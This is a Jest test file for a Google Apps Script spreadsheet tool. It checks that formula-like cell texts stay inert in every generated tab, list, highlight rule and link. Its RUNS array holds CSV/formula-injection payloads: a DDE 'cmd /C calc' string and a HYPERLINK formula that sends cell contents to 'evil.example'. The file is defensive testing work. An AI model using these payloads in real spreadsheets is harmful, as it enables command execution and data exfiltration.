// Texts that look like formulas stay texts: in every field, through every command, in every tab, list, highlight and link.
import type { AppsScriptHost } from "../../local/apps-script/host";
import { stateOfOwnTab } from "../../local/own-tabs";
import type { Cell, Sheet, Workbook } from "../../local/workbook";
import { piecesOf } from "../../src/settings/text-pieces";
import { hostileSettings, makeHostile, STARTS } from "./hostile-texts";
import { callPage, hostFor, pageData, smallWorkbook, textsOf } from "./sample-host";

jest.setTimeout(60_000);

const COMMANDS = [
	"validateTable",
	"setDropdowns",
	"createSummary",
	"createReport",
	"createRequests",
	"createFigures",
	"createData",
];
const SPARKLINE = /^=SPARKLINE\([A-Z]+\d+:[A-Z]+\d+\)$/;
const LINK = /^#gid=(\d+)&range=[A-Z]+\d+$/;
/** What a program may take for a formula, with what it may drop ahead of it. */
const FORMULA_LIKE = /^[\s\p{Cc}\p{Cf}]*[=+\-@']/u;

function withoutStrings(formula: string): string {
	return formula.replace(/"(?:[^"]|"")*"/g, "");
}

function tableOf(workbook: Workbook): Sheet {
	const [sheet] = workbook.sheets;
	if (sheet === undefined) {
		throw new Error("The workbook has no tab.");
	}
	return sheet;
}

function cellsOf({ cells }: Sheet): readonly Cell[] {
	return cells.flatMap((row) => row.filter((cell) => cell !== undefined));
}

function ownTabs(workbook: Workbook): readonly Sheet[] {
	return workbook.sheets.filter((sheet) => stateOfOwnTab(sheet) !== null);
}

function settled(workbook: Workbook, start: string): void {
	for (const [name, piece] of Object.entries(piecesOf("settings", hostileSettings(start)) ?? {})) {
		workbook.documentProperties.set(name, piece);
	}
}

/** Everything that makes cells, lists and highlights, on a table in which all is hostile. */
function runEverything(workbook: Workbook): AppsScriptHost {
	const table = tableOf(workbook);
	const host = hostFor(workbook);
	const run = (command: string): void => {
		workbook.activeSheetId = table.id;
		host.run(command);
	};
	COMMANDS.forEach(run);
	const { name } = table;
	const preview = callPage(host, "pagePlanFixes", { sheet: name, scope: { kind: "all" } });
	if (preview.kind === "done") {
		const { sheetId, changes } = preview.value;
		callPage(host, "pageApplyFixes", { sheetId, changes });
	}
	// A later report compares itself with the first; one that staff wrote into is kept.
	const mark = cellsOf(table).find(({ value }) => String(value).endsWith("〇"));
	Object.assign(mark ?? {}, { value: String(mark?.value).replace(/〇$/, "△") });
	host.options.now = new Date("2026-12-22T10:42:00+09:00");
	run("createReport");
	return host;
}

/** Starts go round by row and column, so that a few runs bring each of them into each column; a lone field gets the first. */
const RUNS = ["=", "@SUM(1+1)*cmd|' /C calc'!A0", "\t", "'=1+1", '=HYPERLINK("http://evil.example/?a="&A1,"こちら")'];

describe.each(RUNS)("every field hostile, the first with %j", (start) => {
	let workbook: Workbook;
	let host: AppsScriptHost;
	let before: readonly string[];
	beforeAll(() => {
		workbook = smallWorkbook();
		const first = STARTS.indexOf(start);
		makeHostile(workbook, (row, column) => STARTS[(first + row * 12 + column) % STARTS.length] ?? "");
		settled(workbook, start);
		before = textsOf(tableOf(workbook)).flat();
		host = runEverything(workbook);
	});

	test("every tab is made, and holds no formula but the lines of our own", () => {
		const tabs = ownTabs(workbook);
		expect(tabs.filter(({ hidden }) => !hidden)).toHaveLength(5);
		expect(tabs.filter(({ hidden }) => hidden).length).toBeGreaterThan(0);
		const formulas = workbook.sheets.flatMap((sheet) => cellsOf(sheet).flatMap(({ formula }) => formula ?? []));
		expect(formulas.length).toBeGreaterThan(0);
		expect(formulas.filter((formula) => !SPARKLINE.test(formula))).toEqual([]);
	});

	test("no text of a tab could become one, were it typed again", () => {
		const textsIn = (sheet: Sheet): readonly Cell[] =>
			cellsOf(sheet).filter(({ value }) => typeof value === "string" && value !== "");
		const texts = ownTabs(workbook).flatMap(textsIn);
		expect(texts.length).toBeGreaterThan(0);
		expect(texts.filter(({ value }) => FORMULA_LIKE.test(String(value)))).toEqual([]);
		const seen = ownTabs(workbook).flatMap((sheet) => (sheet.hidden ? [] : textsIn(sheet)));
		expect(seen.filter(({ style }) => style?.numberFormat !== "@").map(({ value }) => value)).toEqual([]);
	});

	test("links lead into this file only", () => {
		const links = ownTabs(workbook).flatMap((sheet) =>
			cellsOf(sheet).flatMap(({ runs }) => (runs ?? []).flatMap(({ link }) => link ?? [])),
		);
		expect(links.length).toBeGreaterThan(0);
		expect(links.filter((link) => Number(LINK.exec(link)?.[1]) !== tableOf(workbook).id)).toEqual([]);
	});

	test("highlights compare with words in quotes and are nothing else", () => {
		const rules = tableOf(workbook).formatRules.flatMap((rule) => (rule.kind === "formula" ? [rule.formula] : []));
		expect(rules.length).toBeGreaterThan(0);
		for (const rule of rules) {
			expect(withoutStrings(rule)).toMatch(/^=(?:\([A-Z]+\d+(?:=|<>)\)\*?)+\(N\(\)=0\)$/);
		}
	});

	test("lists offer nothing that would be a formula when it is chosen", () => {
		const lists = cellsOf(tableOf(workbook)).flatMap(({ validation }) =>
			validation?.kind === "list" ? [validation.values] : [],
		);
		const offered = [...new Set(lists.flat())];
		expect(offered.filter((value) => /^[\s\p{Cc}\p{Cf}]*[=@']|^[+-]+[^+-]/u.test(value))).toEqual([]);
	});

	test("a text for a department, pasted into a sheet, makes no formula", () => {
		const choices = callPage(host, "pageTabChoices", { sheet: tableOf(workbook).name });
		const departments = choices.kind === "done" ? choices.value.departments : [];
		expect(departments.length).toBeGreaterThan(0);
		for (const { name: department } of departments) {
			const answer = callPage(host, "pageRequestText", { sheet: tableOf(workbook).name, department });
			const text = answer.kind === "done" ? answer.value.text : "";
			expect(text).toContain("ご担当者様");
			expect(text.split(/[\n\t\r]/).filter((line) => FORMULA_LIKE.test(line))).toEqual([]);
		}
	});

	test("what staff wrote stands as they wrote it", () => {
		const after = textsOf(tableOf(workbook)).flat();
		const changed = after.filter((text, index) => text !== before[index]);
		// The one mark, and cells that a fix may write because nothing in them can become a formula.
		expect(changed.filter((text) => FORMULA_LIKE.test(text) && !text.endsWith("△"))).toEqual([]);
	});

	test("the page of findings is told of all of it as text", () => {
		expect(pageData(host).result?.result.findings.length).toBeGreaterThan(0);
	});
});

describe("the meaning of a text stays", () => {
	test.each([
		["=1+1で計算", "＝1+1で計算"],
		["+81 76", "＋81 76"],
		["-5％減", "－5％減"],
		["@広報", "＠広報"],
		["'引用'から", "’引用'から"],
		["  =字下げ", "  ＝字下げ"],
		["＝全角のまま", "＝全角のまま"],
	])("%j is %j in the list of all texts", (typed, shown) => {
		const workbook = smallWorkbook();
		const cell = tableOf(workbook).cells[10]?.[5];
		Object.assign(cell ?? {}, { value: typed });
		hostFor(workbook).run("createData");
		const texts = workbook.sheets.flatMap((sheet) => (sheet.name === "データ（縦持ち）" ? textsOf(sheet).flat() : []));
		expect(texts).toContain(shown);
	});
});

describe("functions in cells answer with texts and numbers, whatever they are given", () => {
	test.each(STARTS)("%j", (start) => {
		const host = hostFor(smallWorkbook());
		const answer = (name: string, ...args: readonly unknown[]): unknown => {
			try {
				return host.calculate(name, ...args);
			} catch (error) {
				return error instanceof Error ? error.message : "";
			}
		};
		const given = [[`${start}令和4年度`], [`${start}3回開催`], [start]];
		for (const each of [
			answer("SHINCHOKU_YEAR", given),
			answer("SHINCHOKU_WAREKI", given),
			answer("SHINCHOKU_COUNT", given, `${start}◎`),
			answer("SHINCHOKU_FIGURE", given, `${start}回`),
		]) {
			const cells = Array.isArray(each) ? each.flat() : [each];
			expect(cells.length).toBeGreaterThan(0);
			expect(cells.filter((cell) => typeof cell !== "number" && typeof cell !== "string")).toEqual([]);
			expect(cells.filter((cell) => typeof cell === "string" && FORMULA_LIKE.test(cell))).toEqual([]);
		}
	});
});
